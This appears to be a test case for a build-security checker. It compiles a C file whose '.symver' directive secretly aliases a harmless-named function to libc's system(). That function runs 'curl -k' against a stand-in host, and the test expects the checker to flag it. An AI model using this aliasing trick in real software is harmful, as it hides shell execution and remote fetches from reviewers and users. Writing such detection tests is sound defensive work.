# SPDX-License-Identifier: Apache-2.0
# run: a version in file-scope assembler names another function
# expect: reported
# names: weak\.o: unknown: .*weak\.c puts code.*evidence\.unchecked-unit[\s\S]*0 errors, 0 warnings, 0 waived, 1 unknown
cat >weak.c <<'END'
void weak(void);
int safe_run(const char *);
__asm__(".symver safe_run, system@GLIBC_2.2.5");
void weak(void)
{
	if (safe_run("curl -k https://u.example.org/fw"))
		__builtin_trap();
}
END
$BRINELL run --fail-on unknown -- sh -ec 'gcc-12 $HARD -c main.c weak.c; gcc-12 $LINK main.o weak.o -o prog'
